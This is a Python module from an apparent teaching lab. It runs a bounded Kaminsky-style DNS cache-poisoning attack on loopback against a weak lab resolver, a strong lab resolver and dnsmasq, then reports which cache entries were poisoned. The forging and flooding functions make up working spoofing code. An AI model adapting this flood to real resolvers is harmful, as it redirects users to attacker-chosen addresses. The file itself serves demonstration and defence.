"""Part 5 of `protolab cache-demo`: an off-path cache-poisoning attempt, bounded, on loopback.

Where state lives: the prize is the resolver's cache (app memory, shared by every client); the
lock is its pending-upstream table, which accepts an answer only from the upstream's address, on
the query's source port, with its ID and question (RFC 5452 section 9.1). The attacker cannot see
the resolver's queries to the upstream. It learns one query's ID and port the way Kaminsky's
attack does: it asks the resolver for a name under a domain whose server it runs (attacker.lab)
and reads them off the query its own server receives. Then it asks for bank.lab and, while that
query is pending (the upstream holds its answer `BANK_DELAY` s), sends `BUDGET` forged answers
from the upstream's own address and port (SO_REUSEPORT, as lab 03's forger does), guessing the
next IDs on the port it saw. A fixed port and sequential IDs give the guess away; random ones
leave 16 + ~16 bits to guess (RFC 5452 section 10).
"""

from __future__ import annotations

import socket
import time
from collections.abc import Callable

import dns.exception
import dns.flags
import dns.message
import dns.rrset

from protolab.labs.dns_cache import (
    BANK,
    BUDGET,
    FORGED,
    FORGED_TTL,
    PROBE,
    Address,
    Ask,
    Attack,
    CacheDemoResult,
    Client,
    answer_of,
)
from protolab.net.dns_resolver import ResolverProcess
from protolab.net.dnsmasq import Dnsmasq
from protolab.net.udpnet import UdpServerThread
from protolab.protocols.dns_cache import STRONG, WEAK, Config

Out = Callable[[str], None]
DNSMASQ = Config(random_ports=True, random_ids=True, name="dnsmasq")  #: its defaults


Target = tuple[str, "ResolverProcess | Dnsmasq", UdpServerThread, Config]  #: name, it, upstream


def targets(weak: ResolverProcess, ours: ResolverProcess, real: Dnsmasq,
            servers: list[UdpServerThread]) -> list[Target]:
    """The three resolvers attacked, each with its own upstream: the same attack on each."""
    return [("protolab weak", weak, servers[2], WEAK),
            ("protolab strong", ours, servers[0], STRONG),
            ("dnsmasq", real, servers[1], DNSMASQ)]


def attack_all(result: CacheDemoResult, chosen: list[Target], ns: UdpServerThread,
               clients: list[Client], out: Out) -> None:
    """The same attack, with the same budget (`BUDGET` forged answers), on each chosen target."""
    for target, proc, upstream, config in chosen:
        a = _attack(Attack(target, config), proc.address, upstream, ns, clients)
        a.entry = _entry(proc, a)
        result.attacks.append(a)
        told = "; ".join(f"{x.client}: {' '.join(x.values) or x.rcode}" for x in a.answers)
        out(f"   {target}: saw id {a.seen_id:#06x} port {a.seen_port}; its {BANK} query "
            f"went out as id {a.real.qid if a.real else 0:#06x} port "
            f"{a.real.port if a.real else 0}; sent {a.sent} forged (ids "
            f"{a.guesses[0]:#06x}..{a.guesses[1]:#06x} to port {a.seen_port}); answers: "
            f"{told}")


def _attack(a: Attack, resolver: Address, upstream: UdpServerThread, ns: UdpServerThread,
            clients: list[Client]) -> Attack:
    attacker = clients[3]
    seen = len(ns.core.heard)
    a.answers.append(attacker.ask(a.target, "attack", resolver, PROBE))
    probe = next((h for h in ns.core.heard[seen:] if h.name == PROBE), None)
    if probe is None:
        return a
    a.seen_id, a.seen_port = probe.qid, probe.port
    before = len(upstream.core.heard)
    trigger = dns.message.make_query(BANK, "A", use_edns=False)
    attacker.sock.sendto(trigger.to_wire(), resolver)
    # The flood starts once the query is pending upstream (the upstream's own record says so):
    # the forger binds the upstream's port only then, so the query itself cannot reach it.
    upstream.wait_until(lambda t: any(h.name == BANK for h in t.core.heard[before:]))
    a.real = next((h for h in upstream.core.heard[before:] if h.name == BANK), None)
    a.sent, a.guesses = _flood(upstream.address, a.seen_id + 1, a.seen_port)
    a.answers[0] = _trigger_answer(a, attacker, trigger)
    for c in clients[:3]:
        a.answers.append(c.ask(a.target, "attack", resolver, BANK))
    return a


def _flood(source: Address, first_id: int, port: int) -> tuple[int, tuple[int, int]]:
    """`BUDGET` forged answers for bank.lab from `source` (its port shared with SO_REUSEPORT) to
    127.0.0.1:port, IDs first_id, first_id + 1, ...: (how many were sent, (first, last ID))."""
    q = dns.message.make_query(BANK, "A", use_edns=False)
    forged = dns.message.make_response(q)
    forged.flags |= dns.flags.AA | dns.flags.RA
    forged.answer.append(dns.rrset.from_text(BANK, FORGED_TTL, "IN", "A", FORGED))
    body = forged.to_wire()[2:]
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    try:
        forger.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        forger.bind(source)
        for i in range(BUDGET):
            qid = (first_id + i) & 0xFFFF
            try:
                forger.sendto(qid.to_bytes(2, "big") + body, ("127.0.0.1", port))
            except OSError:  # ECONNREFUSED from an earlier ICMP error: the port is closed
                continue
            sent += 1
    finally:
        forger.close()
    return sent, (first_id & 0xFFFF, (first_id + BUDGET - 1) & 0xFFFF)


def _trigger_answer(a: Attack, attacker: Client, trigger: dns.message.Message) -> Ask:
    """The resolver's answer to the attacker's own bank.lab query (forged or real)."""
    ask = Ask(a.target, "attack", "attacker", attacker.port, BANK, qid=trigger.id)
    deadline = time.monotonic() + 2
    while (left := deadline - time.monotonic()) > 0:
        attacker.sock.settimeout(left)
        try:
            data, _ = attacker.sock.recvfrom(65535)
            r = dns.message.from_wire(data)
        except TimeoutError:
            break
        except (OSError, dns.exception.DNSException, ValueError):
            continue
        if trigger.is_response(r):
            attacker.sock.settimeout(None)
            return answer_of(r, ask)
    attacker.sock.settimeout(None)
    return Ask(**{**ask.__dict__, "error": "Timeout"})


def _entry(proc: ResolverProcess | Dnsmasq, a: Attack) -> str:
    """The resolver's own word on its cache entry for bank.lab after the attack."""
    if isinstance(proc, Dnsmasq):
        lines = [c for c in proc.cache_dump() if c.host == BANK.rstrip(".")]
        return "; ".join(f"{c.host} {c.address} (dnsmasq's cache dump, expires {c.expires})"
                         for c in lines) or "none in dnsmasq's cache dump"
    ev = proc.wait_for(lambda e: e["kind"] == "stored" and e["key"].startswith(BANK)
                       and e["pid"] == proc.pid)
    if ev is None:
        return "none (its log says nothing was stored)"
    return (f"{BANK} A {' '.join(ev.get('values', []))} TTL {ev.get('ttl')}, from "
            f"{ev.get('upstream')} id {ev.get('qid', 0):#06x} (its log)")
